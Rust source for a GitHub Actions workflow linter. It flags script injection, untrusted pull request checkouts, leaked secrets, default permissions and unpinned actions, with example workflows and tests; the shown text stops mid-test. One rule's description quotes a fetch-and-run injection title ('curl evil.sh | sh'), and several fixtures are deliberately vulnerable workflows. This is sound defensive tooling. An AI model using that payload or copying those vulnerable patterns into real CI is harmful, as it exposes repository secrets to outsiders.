//! GitHub Actions workflows (`.github/workflows/*.yml`): the ways a startup's CI runs an
//! outsider's text or code with the repository's secrets, leaks those secrets, or hands every
//! job more power than it needs.
//!
//! Read through the YAML parser ([`Yaml`]: every node knows its bytes, so a finding points at
//! the expression, key or `uses:` it is about); GitHub's `${{ }}` expressions inside values are
//! a tiny language of their own, read here by [`expressions`] and [`context_paths`].
//!
//! Decisions, with the reason next to each:
//! - Script injection is about the contexts an outsider writes (an issue or pull request title
//!   or body, a comment, a branch name, a commit message or author, a wiki page name), from
//!   GitHub Security Lab's list. Label names are left out: only people with triage access can
//!   create labels. Numbers, SHAs, ids and logins cannot carry a shell command. `inputs.*` are
//!   typed by people with write access. A context passed through `env:` and used as `$VAR` is
//!   the documented fix and never fires; `${{ env.X }}` whose `X` holds an outsider's text does.
//! - Severity follows who can trigger the run with secrets: `pull_request_target`, `issues`,
//!   `issue_comment`, `discussion*`, `workflow_run` run with the repository's secrets and a
//!   write token on an outsider's event (high); `pull_request` from a fork and `push` do not
//!   hand an outsider secrets (medium).
//! - A pull request's head checked out under `pull_request_target`/`workflow_run` is critical
//!   when a later step of the same job runs anything (the outsider's build scripts run with
//!   secrets), high when nothing runs after it or the job waits for a label, an author check
//!   or an environment's reviewers.
//! - GitHub masks registered secrets in logs, so an `echo` of one is medium (masking misses
//!   transformed, split or structured values) and `set -x` low; a secret written to a file
//!   that a later step uploads as an artifact is not masked at all (high).
//! - Missing `permissions:` is one finding per file (at `jobs:`), quiet when every job sets
//!   its own. Unpinned actions are one finding per file listing them: `actions/*` and
//!   `github/*` are GitHub's own (the runner's trust already), local `./` actions are the
//!   repository's, and a `docker://` image with a digest is pinned.

use super::syntax::Yaml;
use super::{Example, Examples, Sink};
use crate::checks::Check;
use crate::finding::Severity;
use std::collections::HashMap;
use std::ops::Range;

const SCRIPT_INJECTION: Check = Check {
    id: "workflow-script-injection",
    name: "Outsider text interpolated into a workflow script",
    severity: Severity::High,
    description: "A `${{ }}` expression that an outsider controls (an issue or pull request \
                  title or body, a comment, a branch name, a commit message) is pasted into a \
                  `run:` script or a github-script `script:` before the shell runs it, so a \
                  title like `\"; curl evil.sh | sh; \"` runs with the workflow's secrets and \
                  token. Move the value into `env:` (`TITLE: ${{ github.event.issue.title }}`) \
                  and use it as a quoted shell variable (`\"$TITLE\"`).",
    tags: &["launch", "workflows"],
};

const UNTRUSTED_CHECKOUT: Check = Check {
    id: "workflow-untrusted-checkout",
    name: "pull_request_target checks out the pull request's code",
    severity: Severity::Critical,
    description: "A `pull_request_target` or `workflow_run` workflow runs with the repository's \
                  secrets and a write token, and this one checks out the pull request's head, \
                  so any outsider's fork can change the build scripts that run next and take \
                  the secrets. Replace the trigger with `pull_request` for building untrusted \
                  code, or split the job: build in `pull_request`, and use `workflow_run` only \
                  to act on uploaded results without running them.",
    tags: &["launch", "workflows"],
};

const SECRET_IN_LOG: Check = Check {
    id: "workflow-secret-in-log",
    name: "Secret printed to the workflow log",
    severity: Severity::Medium,
    description: "A script echoes a secret, or traces its commands with `set -x` while secrets \
                  are in its environment. GitHub masks a secret's exact value, but not a \
                  base64, split, JSON or URL-encoded form of it, and logs of public \
                  repositories are public. Pipe the secret into the command that needs it \
                  (`--password-stdin`), or add `::add-mask::` for derived values; never echo it.",
    tags: &["launch", "workflows"],
};

const SECRET_IN_ARTIFACT: Check = Check {
    id: "workflow-secret-in-artifact",
    name: "Secret written to a file that is uploaded as an artifact",
    severity: Severity::High,
    description: "A step writes a secret into a file, and a later step uploads that path with \
                  `actions/upload-artifact`. Artifacts are not masked and anyone who can read \
                  the repository's Actions can download them. Move the secret file out of the \
                  uploaded path (or delete it before the upload), or set the upload's `path:` \
                  to the build output only.",
    tags: &["launch", "workflows"],
};

const DEFAULT_PERMISSIONS: Check = Check {
    id: "workflow-default-permissions",
    name: "Workflow without a permissions block",
    severity: Severity::Medium,
    description: "The workflow sets no top-level `permissions:`, so its `GITHUB_TOKEN` gets the \
                  repository's default, which is read-write on every scope for repositories \
                  and organizations created before 2023. A compromised step or dependency can \
                  then push code or publish releases. Add `permissions: contents: read` at the \
                  top and grant more per job only where needed.",
    tags: &["launch", "workflows"],
};

const UNPINNED_ACTION: Check = Check {
    id: "workflow-unpinned-action",
    name: "Third-party action not pinned by commit SHA",
    severity: Severity::Low,
    description: "A third-party action is used by a tag or branch (`owner/action@v3`), which its \
                  owner (or whoever takes over their account) can move to new code that then \
                  runs with your secrets, as happened with tj-actions/changed-files in 2025. \
                  Replace the tag with the full commit SHA (`owner/action@<40 hex> # v3`) and \
                  let Dependabot or Renovate update it.",
    tags: &["launch", "workflows"],
};

pub const CHECKS: [Check; 6] = [
    SCRIPT_INJECTION,
    UNTRUSTED_CHECKOUT,
    SECRET_IN_LOG,
    SECRET_IN_ARTIFACT,
    DEFAULT_PERMISSIONS,
    UNPINNED_ACTION,
];

const ISSUE_TITLE_RUN: &str = "on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    permissions:
      issues: write
    steps:
      - run: echo \"${{ github.event.issue.title }}\"
";

pub const EXAMPLES: &[Examples] = &[
    Examples {
        rule: "workflow-script-injection",
        fires: &[
            Example {
                path: ".github/workflows/triage.yml",
                text: ISSUE_TITLE_RUN,
            },
            Example {
                path: ".github/workflows/pr.yml",
                text: "on: pull_request
permissions: {}
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - name: Check branch
        run: |
          if [[ \"${{ github.head_ref }}\" == release/* ]]; then exit 0; fi
",
            },
            Example {
                path: ".github/workflows/comment.yml",
                text: "on: issue_comment
permissions: {}
env:
  BODY: ${{ github.event.comment.body }}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@v7
        with:
          script: console.log(`${{ env.BODY }}`)
",
            },
        ],
        quiet: &[
            Example {
                path: ".github/workflows/triage.yml",
                text: "on: issues
permissions: {}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo \"$TITLE\"
",
            },
            Example {
                path: ".github/workflows/pr.yml",
                text: "on: pull_request
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: gh pr view ${{ github.event.pull_request.number }} && git log ${{ github.event.pull_request.head.sha }}
",
            },
        ],
    },
    Examples {
        rule: "workflow-untrusted-checkout",
        fires: &[Example {
            path: ".github/workflows/preview.yml",
            text: "on: pull_request_target
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm run build
",
        }],
        quiet: &[
            Example {
                path: ".github/workflows/label.yml",
                text: "on: pull_request_target
permissions: {}
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/labeler@v5
",
            },
            Example {
                path: ".github/workflows/ci.yml",
                text: "on: pull_request
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: npm test
",
            },
        ],
    },
    Examples {
        rule: "workflow-secret-in-log",
        fires: &[Example {
            path: ".github/workflows/deploy.yml",
            text: "on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: echo \"token is ${{ secrets.DEPLOY_TOKEN }}\"
",
        }],
        quiet: &[Example {
            path: ".github/workflows/deploy.yml",
            text: "on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - env:
          TOKEN: ${{ secrets.REGISTRY_TOKEN }}
        run: |
          echo \"$TOKEN\" | docker login ghcr.io -u me --password-stdin
          echo \"TOKEN_SET=1\" >> \"$GITHUB_ENV\"
",
        }],
    },
    Examples {
        rule: "workflow-secret-in-artifact",
        fires: &[Example {
            path: ".github/workflows/build.yml",
            text: "on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo \"API_KEY=${{ secrets.API_KEY }}\" > dist/.env
      - uses: actions/upload-artifact@v4
        with:
          path: dist
",
        }],
        quiet: &[Example {
            path: ".github/workflows/build.yml",
            text: "on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo \"API_KEY=${{ secrets.API_KEY }}\" > .env
      - uses: actions/upload-artifact@v4
        with:
          path: dist
",
        }],
    },
    Examples {
        rule: "workflow-default-permissions",
        fires: &[Example {
            path: ".github/workflows/ci.yml",
            text: "on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
",
        }],
        quiet: &[
            Example {
                path: ".github/workflows/ci.yml",
                text: "on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
",
            },
            Example {
                path: ".github/workflows/ci.yml",
                text: "on: push
jobs:
  test:
    permissions: read-all
    runs-on: ubuntu-latest
    steps:
      - run: make test
",
            },
        ],
    },
    Examples {
        rule: "workflow-unpinned-action",
        fires: &[Example {
            path: ".github/workflows/ci.yml",
            text: "on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: pnpm/action-setup@v4
",
        }],
        quiet: &[Example {
            path: ".github/workflows/ci.yml",
            text: "on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: pnpm/action-setup@a7487c7e89a18df4991f7f222e4898a00d66ddda # v4
      - uses: ./.github/actions/setup
      - uses: docker://alpine@sha256:1e42bbe2508154c9126d48c2b8a75420c3544343bf86fd041fb7527e017a4b4a
",
        }],
    },
];

/// Contexts an outsider writes, as `.`-separated paths under `github.` (`*` is any key or
/// index).
const OUTSIDER_CONTEXTS: &[&str] = &[
    "head_ref",
    "event.issue.title",
    "event.issue.body",
    "event.pull_request.title",
    "event.pull_request.body",
    "event.pull_request.head.ref",
    "event.pull_request.head.label",
    "event.pull_request.head.repo.default_branch",
    "event.comment.body",
    "event.review.body",
    "event.review_comment.body",
    "event.discussion.title",
    "event.discussion.body",
    "event.pages.*.page_name",
    "event.commits.*.message",
    "event.commits.*.author.email",
    "event.commits.*.author.name",
    "event.commits.*.committer.email",
    "event.commits.*.committer.name",
    "event.head_commit.message",
    "event.head_commit.author.email",
    "event.head_commit.author.name",
    "event.head_commit.committer.email",
    "event.head_commit.committer.name",
    "event.workflow_run.head_branch",
    "event.workflow_run.display_title",
    "event.workflow_run.head_commit.message",
    "event.workflow_run.head_commit.author.email",
    "event.workflow_run.head_commit.author.name",
    "event.workflow_run.pull_requests.*.head.ref",
];

/// Triggers on which an outsider's event runs with the repository's secrets and token.
const PRIVILEGED_TRIGGERS: &[&str] = &[
    "pull_request_target",
    "issues",
    "issue_comment",
    "discussion",
    "discussion_comment",
    "workflow_run",
    "fork",
    "watch",
    "gollum",
];

/// Checks one workflow file.
pub fn workflow(text: &str, sink: &mut Sink<'_>) {
    let Some(doc) = Yaml::parse(text) else {
        return;
    };
    if doc.entries().is_empty() {
        return;
    }
    let triggers = triggers(&doc);
    let privileged = triggers
        .iter()
        .any(|t| PRIVILEGED_TRIGGERS.contains(&t.as_str()));
    let workflow_env = doc.get("env");
    let jobs = doc.get("jobs");
    for (job_key, job) in jobs.map(Yaml::entries).unwrap_or_default() {
        let job_name = job_key.as_str().unwrap_or("job");
        let job_env = job.get("env");
        let mut outer_env = Env::default();
        outer_env.add(text, workflow_env);
        outer_env.add(text, job_env);
        let steps = job.get("steps").map(Yaml::items).unwrap_or_default();
        let mut written: Vec<Written> = Vec::new();
        for (index, step) in steps.iter().enumerate() {
            let mut env = outer_env.clone();
            env.add(text, step.get("env"));
            let place = StepPlace {
                job: job_name,
                step: step_name(step, index),
            };
            let uses = step.get("uses").and_then(Yaml::as_str).unwrap_or("");
            if let Some(run) = step.get("run") {
                injection(text, sink, run, &env, privileged, &place);
                secrets_in_script(text, sink, run, &env, &place, &mut written);
            }
            if uses.starts_with("actions/github-script")
                && let Some(script) = step.get("with").and_then(|w| w.get("script"))
            {
                injection(text, sink, script, &env, privileged, &place);
            }
            if uses.starts_with("actions/upload-artifact") {
                uploaded(text, sink, step, &written, &place);
            }
            if triggers
                .iter()
                .any(|t| t == "pull_request_target" || t == "workflow_run")
            {
                untrusted_checkout(text, sink, job, steps, index, &place);
            }
        }
    }
    permissions(sink, &doc, privileged);
    unpinned(text, sink, &doc);
}

/// The workflow's triggers: `on: push`, `on: [push, pull_request]`, `on: {push: ...}`.
fn triggers(doc: &Yaml) -> Vec<String> {
    let Some(on) = doc.get("on") else {
        return Vec::new();
    };
    if let Some(one) = on.as_str() {
        return vec![one.to_string()];
    }
    on.items()
        .iter()
        .chain(on.entries().iter().map(|(k, _)| k))
        .filter_map(Yaml::as_str)
        .map(str::to_string)
        .collect()
}

/// Where a step is, for messages and fingerprints: the job's key and the step's id, name or
/// position.
struct StepPlace<'a> {
    job: &'a str,
    step: String,
}

impl StepPlace<'_> {
    fn case(&self, what: &str) -> String {
        format!("{} {} {what}", self.job, self.step)
    }
}

fn step_name(step: &Yaml, index: usize) -> String {
    step.get("id")
        .or_else(|| step.get("name"))
        .and_then(Yaml::as_str)
        .map_or_else(|| format!("step {}", index + 1), str::to_string)
}

/// The environment a step sees: which variables hold an outsider's text (and which context)
/// and which hold a secret.
#[derive(Clone, Default)]
struct Env {
    outsider: HashMap<String, String>,
    secret: Vec<String>,
}

impl Env {
    fn add(&mut self, text: &str, env: Option<&Yaml>) {
        let _ = text;
        for (key, value) in env.map(Yaml::entries).unwrap_or_default() {
            let (Some(name), Some(value)) = (key.as_str(), value.as_str()) else {
                continue;
            };
            self.outsider.remove(name);
            self.secret.retain(|s| s != name);
            for (_, inner) in expressions(value) {
                let paths = context_paths(inner);
                if let Some(path) = paths.iter().find_map(|p| outsider_context(p, inner)) {
                    self.outsider.insert(name.to_string(), path);
                }
                if paths.iter().any(|p| p.starts_with("secrets.")) {
                    self.secret.push(name.to_string());
                }
            }
        }
    }
}

/// Every `${{ ... }}` in `value`: its byte range in `value` and what is inside.
fn expressions(value: &str) -> Vec<(Range<usize>, &str)> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(open) = value[from..].find("${{").map(|i| from + i) {
        let Some(close) = value[open + 3..].find("}}").map(|i| open + 3 + i) else {
            break;
        };
        out.push((open..close + 2, &value[open + 3..close]));
        from = close + 2;
    }
    out
}

/// The context paths an expression reads, lower case, with indexes as `.` segments
/// (`github.event.commits[0].message` -> `github.event.commits.*.message`,
/// `github.event['issue'].title` -> `github.event.issue.title`). String literals are skipped.
fn context_paths(expression: &str) -> Vec<String> {
    let bytes = expression.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let c = bytes[i];
        if c == b'\'' {
            // A string literal ('' is an escaped quote).
            i += 1;
            while i < bytes.len() {
                if bytes[i] == b'\'' {
                    if bytes.get(i + 1) == Some(&b'\'') {
                        i += 2;
                        continue;
                    }
                    break;
                }
                i += 1;
            }
            i += 1;
            continue;
        }
        if c.is_ascii_alphabetic() || c == b'_' {
            let mut path = String::new();
            while i < bytes.len() {
                let c = bytes[i];
                if c.is_ascii_alphanumeric() || c == b'_' || c == b'-' || c == b'.' || c == b'*' {
                    path.push(char::from(c.to_ascii_lowercase()));
                    i += 1;
                } else if c == b'[' {
                    let end = expression[i..].find(']').map_or(bytes.len(), |e| i + e);
                    let inside = expression.get(i + 1..end).unwrap_or("").trim();
                    let key = inside.trim_matches('\'');
                    let segment = if key.is_empty()
                        || key == "*"
                        || key.chars().all(|c| c.is_ascii_digit())
                        || !inside.starts_with('\'')
                    {
                        "*".to_string()
                    } else {
                        key.to_ascii_lowercase()
                    };
                    path.push('.');
                    path.push_str(&segment);
                    i = end + 1;
                } else {
                    break;
                }
            }
            out.push(path.replace("..", "."));
            continue;
        }
        i += 1;
    }
    out
}

/// The outsider-written context `path` reads, if it reads one: the context itself, or an
/// object holding one when the expression turns it into text (`toJSON(github.event)`).
fn outsider_context(path: &str, expression: &str) -> Option<String> {
    let rest = path.strip_prefix("github.")?;
    let path_segments: Vec<&str> = rest.split('.').collect();
    let to_json = expression.to_ascii_lowercase().contains("tojson(");
    for context in OUTSIDER_CONTEXTS {
        let segments: Vec<&str> = context.split('.').collect();
        let same = |a: &str, b: &str| a == b || a == "*" || b == "*";
        if path_segments.len() >= segments.len()
            && segments.iter().zip(&path_segments).all(|(a, b)| same(a, b))
        {
            return Some(format!("github.{context}"));
        }
        if to_json
            && path_segments.len() < segments.len()
            && path_segments.iter().zip(&segments).all(|(a, b)| same(a, b))
        {
            return Some(format!("github.{rest}"));
        }
    }
    None
}

/// The bytes of `needle` (a piece of `node`'s parsed value) in the file: found within the
/// node's own bytes, or the node's start when a folded or escaped scalar does not hold it
/// verbatim.
fn locate(text: &str, node: &Yaml, needle: &str) -> Range<usize> {
    let raw = text.get(node.span.clone()).unwrap_or("");
    match raw.find(needle) {
        Some(at) => node.span.start + at..node.span.start + at + needle.len(),
        None => node.span.start..node.span.start,
    }
}

fn injection(
    text: &str,
    sink: &mut Sink<'_>,
    script: &Yaml,
    env: &Env,
    privileged: bool,
    place: &StepPlace<'_>,
) {
    if !sink.is_on(&SCRIPT_INJECTION) {
        return;
    }
    let Some(value) = script.as_str() else {
        return;
    };
    for (range, inner) in expressions(value) {
        let paths = context_paths(inner);
        let direct = paths.iter().find_map(|p| outsider_context(p, inner));
        let through_env = || {
            paths.iter().find_map(|p| {
                let name = p.strip_prefix("env.")?;
                env.outsider
                    .iter()
                    .find(|(k, _)| k.eq_ignore_ascii_case(name))
                    .map(|(k, v)| format!("env.{k} (which holds {v})"))
            })
        };
        let Some(what) = direct.or_else(through_env) else {
            continue;
        };
        let (severity, who) = if privileged {
            (
                Severity::High,
                "on a trigger any outsider can fire, with the repository's secrets",
            )
        } else {
            (
                Severity::Medium,
                "on a trigger that does not hand an outsider the secrets (still code execution \
                 in CI)",
            )
        };
        let span = locate(text, script, &value[range]);
        sink.report(
            &SCRIPT_INJECTION,
            severity,
            span,
            &place.case(&what),
            format!(
                "`${{{{ {what} }}}}` is pasted into the script of {} in job {}, {who}; pass it \
                 through `env:` and use the shell variable instead.",
                place.step, place.job
            ),
        );
    }
}

/// A file a step wrote a secret into: its path as written and where the write is.
struct Written {
    path: String,
    span: Range<usize>,
    step: String,
}

/// Commands of a script, with continuation lines joined: (command text, its offset in the
/// script value).
fn commands(script: &str) -> Vec<(&str, usize)> {
    let mut out = Vec::new();
    let mut offset = 0;
    for line in script.split_inclusive('\n') {
        let body = line.trim_end_matches(['\n', '\r']);
        for part in split_commands(body) {
            out.push((part.0, offset + part.1));
        }
        offset += line.len();
    }
    out
}

/// `a && b; c || d` -> each command with its offset (pipes stay inside a command).
fn split_commands(line: &str) -> Vec<(&str, usize)> {
    let mut out = Vec::new();
    let mut start = 0;
    let bytes = line.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let two = line.get(i..i + 2);
        if two == Some("&&") || two == Some("||") {
            out.push((&line[start..i], start));
            i += 2;
            start = i;
        } else if bytes[i] == b';' {
            out.push((&line[start..i], start));
            i += 1;
            start = i;
        } else {
            i += 1;
        }
    }
    out.push((&line[start..], start));
    out
}

/// The secrets a command reads: `${{ secrets.X }}` or `$X`/`${X}` of a variable that holds one.
fn secret_refs(command: &str, env: &Env) -> Vec<String> {
    let mut out: Vec<String> = expressions(command)
        .into_iter()
        .flat_map(|(_, inner)| context_paths(inner))
        .filter(|p| p.starts_with("secrets.") && p != "secrets.github_token")
        .collect();
    for name in &env.secret {
        if shell_reads(command, name) {
            out.push(format!("${name}"));
        }
    }
    out
}

/// Whether a shell command expands `$name` or `${name}`.
fn shell_reads(command: &str, name: &str) -> bool {
    let braced = format!("${{{name}}}");
    if command.contains(&braced) {
        return true;
    }
    let plain = format!("${name}");
    command.match_indices(&plain).any(|(at, _)| {
        command[at + plain.len()..]
            .chars()
            .next()
            .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_'))
    })
}

fn secrets_in_script(
    text: &str,
    sink: &mut Sink<'_>,
    run: &Yaml,
    env: &Env,
    place: &StepPlace<'_>,
    written: &mut Vec<Written>,
) {
    let Some(script) = run.as_str() else {
        return;
    };
    let mut traced = false;
    for (command, _) in commands(script) {
        let command = command.trim();
        let words: Vec<&str> = command.split_whitespace().collect();
        if words.first() == Some(&"set")
            && words
                .get(1)
                .is_some_and(|w| w.starts_with('-') && w.contains('x'))
        {
            traced = true;
        }
        let refs = secret_refs(command, env);
        if refs.is_empty() {
            continue;
        }
        let span = locate(text, run, command);
        if let Some(target) = redirect_target(command) {
            if !target.contains("GITHUB_") && !target.starts_with("/dev/") {
                written.push(Written {
                    path: target,
                    span: span.clone(),
                    step: place.step.clone(),
                });
            }
            continue;
        }
        let prints = matches!(words.first(), Some(&"echo") | Some(&"printf"))
            && !command.contains('|')
            && !command.contains("::add-mask::");
        if prints {
            sink.report(
                &SECRET_IN_LOG,
                Severity::Medium,
                span,
                &place.case(&format!("echo {}", refs[0])),
                format!(
                    "{} of job {} prints {} to the log; GitHub masks only the exact value.",
                    place.step, place.job, refs[0]
                ),
            );
        }
    }
    if traced && !env.secret.is_empty() {
        let span = locate(text, run, "set -");
        sink.report(
            &SECRET_IN_LOG,
            Severity::Low,
            span,
            &place.case("set -x"),
            format!(
                "{} of job {} traces its commands (`set -x`) with secrets in its environment; \
                 each command is printed with the secret expanded (masked only if verbatim).",
                place.step, place.job
            ),
        );
    }
}

/// The file a command writes to (`> f`, `>> f`, `tee f`), without quotes.
fn redirect_target(command: &str) -> Option<String> {
    let words: Vec<&str> = command.split_whitespace().collect();
    let mut found = None;
    for (i, word) in words.iter().enumerate() {
        let target = if let Some(rest) = word.strip_prefix(">>").or_else(|| word.strip_prefix('>'))
        {
            if rest.is_empty() {
                words.get(i + 1).copied()
            } else {
                Some(rest)
            }
        } else if *word == "tee" || word.ends_with("|tee") {
            words[i + 1..].iter().find(|w| !w.starts_with('-')).copied()
        } else {
            None
        };
        if let Some(t) = target {
            found = Some(t.trim_matches(['"', '\'']).to_string());
        }
    }
    found.filter(|t| !t.is_empty() && !t.starts_with('&'))
}

/// A later upload of a path that holds a file a secret was written into.
fn uploaded(
    text: &str,
    sink: &mut Sink<'_>,
    step: &Yaml,
    written: &[Written],
    place: &StepPlace<'_>,
) {
    let Some(paths) = step.get("with").and_then(|w| w.get("path")) else {
        return;
    };
    let Some(paths_text) = paths.as_str() else {
        return;
    };
    for upload in paths_text.lines().map(str::trim).filter(|p| !p.is_empty()) {
        if upload.starts_with('!') {
            continue;
        }
        for w in written {
            if overlaps(upload, &w.path) {
                let _ = text;
                sink.report(
                    &SECRET_IN_ARTIFACT,
                    Severity::High,
                    w.span.clone(),
                    &place.case(&format!("{} -> {upload}", w.path)),
                    format!(
                        "{} of job {} writes a secret into `{}`, and {} uploads `{upload}` as \
                         an artifact.",
                        w.step, place.job, w.path, place.step
                    ),
                );
            }
        }
    }
}

/// Whether the upload path `upload` (a file, folder or glob) takes in the file `file`.
fn overlaps(upload: &str, file: &str) -> bool {
    let clean = |p: &str| {
        p.trim_start_matches("./")
            .trim_end_matches('/')
            .trim_matches(['"', '\''])
            .to_string()
    };
    let (upload, file) = (clean(upload), clean(file));
    if upload.is_empty() || upload == "." || upload == "*" || upload == "**" {
        return true;
    }
    let prefix = upload
        .split_once('*')
        .map_or(upload.as_str(), |(p, _)| p)
        .trim_end_matches('/');
    if upload.contains('*') {
        return prefix.is_empty() || file == prefix || file.starts_with(&format!("{prefix}/"));
    }
    file == upload || file.starts_with(&format!("{upload}/"))
}

/// A checkout of the pull request's head under a privileged trigger.
fn untrusted_checkout(
    text: &str,
    sink: &mut Sink<'_>,
    job: &Yaml,
    steps: &[Yaml],
    index: usize,
    place: &StepPlace<'_>,
) {
    let step = &steps[index];
    let uses = step.get("uses").and_then(Yaml::as_str).unwrap_or("");
    let head_ref = |s: &str| {
        let s = s.to_ascii_lowercase();
        [
            "pull_request.head.sha",
            "pull_request.head.ref",
            "github.head_ref",
            "refs/pull/",
            "workflow_run.head_sha",
            "workflow_run.head_branch",
            "pull_request.merge_commit_sha",
        ]
        .iter()
        .any(|h| s.contains(h))
    };
    let node = if uses.starts_with("actions/checkout") {
        step.get("with")
            .and_then(|w| w.get("ref"))
            .filter(|r| r.as_str().is_some_and(head_ref))
    } else {
        step.get("run")
            .filter(|r| r.as_str().is_some_and(|s| s.contains("gh pr checkout")))
    };
    let Some(node) = node else {
        return;
    };
    let runs_after = steps[index + 1..].iter().any(|s| {
        s.get("run").is_some()
            || s.get("uses")
                .and_then(Yaml::as_str)
                .is_some_and(|u| u.starts_with("./"))
    });
    let gate = job.get("if").and_then(Yaml::as_str).is_some_and(|c| {
        let c = c.to_ascii_lowercase();
        c.contains("label") || c.contains("author_association") || c.contains("github.actor")
    }) || job.get("environment").is_some();
    let (severity, why) = if runs_after && !gate {
        (
            Severity::Critical,
            "and later steps run the checked-out code with the repository's secrets",
        )
    } else if gate {
        (
            Severity::High,
            "behind a label, author or environment gate that a maintainer's slip opens",
        )
    } else {
        (
            Severity::High,
            "nothing runs it in this job yet, but any later step or action will",
        )
    };
    let span = match node.as_str() {
        Some(v) if uses.starts_with("actions/checkout") => locate(text, node, v),
        _ => locate(text, node, "gh pr checkout"),
    };
    sink.report(
        &UNTRUSTED_CHECKOUT,
        severity,
        span,
        &place.case("checkout head"),
        format!(
            "{} of job {} checks out the pull request's code under a privileged trigger, {why}.",
            place.step, place.job
        ),
    );
}

fn permissions(sink: &mut Sink<'_>, doc: &Yaml, privileged: bool) {
    if doc.get("permissions").is_some() {
        return;
    }
    let Some((jobs_key, jobs)) = doc.entry("jobs") else {
        return;
    };
    if !jobs.entries().is_empty()
        && jobs
            .entries()
            .iter()
            .all(|(_, j)| j.get("permissions").is_some())
    {
        return;
    }
    let (severity, why) = if privileged {
        (Severity::Medium, " and runs on events outsiders can fire")
    } else {
        (Severity::Low, "")
    };
    sink.report(
        &DEFAULT_PERMISSIONS,
        severity,
        jobs_key.span.clone(),
        "no permissions",
        format!(
            "The workflow sets no `permissions:` (and not every job does){why}, so its token \
             gets the repository's default."
        ),
    );
}

fn unpinned(text: &str, sink: &mut Sink<'_>, doc: &Yaml) {
    let mut found: Vec<(&str, Range<usize>)> = Vec::new();
    for (_, job) in doc.get("jobs").map(Yaml::entries).unwrap_or_default() {
        let uses = job.get("uses").into_iter().chain(
            job.get("steps")
                .map(Yaml::items)
                .unwrap_or_default()
                .iter()
                .filter_map(|s| s.get("uses")),
        );
        for node in uses {
            if let Some(reference) = node.as_str()
                && !is_pinned(reference)
                && !found.iter().any(|(r, _)| *r == reference)
            {
                found.push((reference, locate(text, node, reference)));
            }
        }
    }
    let Some((first, span)) = found.first() else {
        return;
    };
    let more = match found.len() {
        1 => String::new(),
        n => format!(" and {} more", n - 1),
    };
    sink.report(
        &UNPINNED_ACTION,
        Severity::Low,
        span.clone(),
        "unpinned actions",
        format!(
            "{first}{more} {} used by tag or branch, not by commit SHA.",
            if found.len() == 1 { "is" } else { "are" }
        ),
    );
}

/// Whether a `uses:` reference cannot move under the workflow: a full commit SHA, a local
/// action, a Docker image by digest, or one of GitHub's own actions.
fn is_pinned(reference: &str) -> bool {
    let reference = reference.trim();
    if reference.starts_with("./") || reference.starts_with("../") {
        return true;
    }
    if let Some(image) = reference.strip_prefix("docker://") {
        return image.contains("@sha256:");
    }
    let owner = reference
        .split('/')
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    if owner == "actions" || owner == "github" {
        return true;
    }
    reference
        .rsplit_once('@')
        .is_some_and(|(_, r)| r.len() == 40 && r.chars().all(|c| c.is_ascii_hexdigit()))
}

#[cfg(test)]
mod tests {
    use super::super::check_text;
    use super::*;
    use crate::finding::Finding;
    use proptest::prelude::*;

    fn run(text: &str) -> Vec<Finding> {
        let path = ".github/workflows/ci.yml";
        check_text(path, text)
    }

    fn rules(text: &str) -> Vec<(String, Severity)> {
        run(text)
            .into_iter()
            .map(|f| (f.rule.id.clone(), f.severity))
            .collect()
    }

    const HEAD: &str = "permissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n";

    fn with_steps(on: &str, steps: &str) -> String {
        format!("on: {on}\n{HEAD}{steps}")
    }

    #[test]
    fn contexts_are_read_from_expressions() {
        assert_eq!(
            context_paths("github.event.commits[0].message || 'github.head_ref'"),
            vec!["github.event.commits.*.message"]
        );
        assert_eq!(
            context_paths("toJSON(github.event['issue'])"),
            vec!["tojson", "github.event.issue"]
        );
        assert!(outsider_context("github.event.issue.title", "").is_some());
        assert!(outsider_context("github.event.issue", "toJSON(github.event.issue)").is_some());
        assert!(outsider_context("github.event.issue", "github.event.issue").is_none());
        assert!(outsider_context("github.event.pull_request.number", "").is_none());
        assert!(outsider_context("github.event.pull_request.head.sha", "").is_none());
        assert!(outsider_context("github.event.commits.*.author.name", "").is_some());
    }

    #[test]
    fn script_injection_cases() {
        let table: &[(&str, &str, Option<Severity>)] = &[
            (
                "issue_comment",
                "      - run: echo ${{ github.event.comment.body }}\n",
                Some(Severity::High),
            ),
            (
                "push",
                "      - run: echo \"${{ github.event.head_commit.message }}\"\n",
                Some(Severity::Medium),
            ),
            (
                "[pull_request_target]",
                "      - run: |\n          git push origin ${{ \
                 github.event.pull_request.head.ref }}\n",
                Some(Severity::High),
            ),
            (
                "pull_request",
                "      - run: echo ${{ github.event.pull_request.number }} ${{ github.sha }}\n",
                None,
            ),
            (
                "pull_request",
                "      - env:\n          REF: ${{ github.head_ref }}\n        run: echo \
                 \"$REF\"\n",
                None,
            ),
            (
                "issues",
                "      - uses: actions/github-script@v7\n        with:\n          script: \
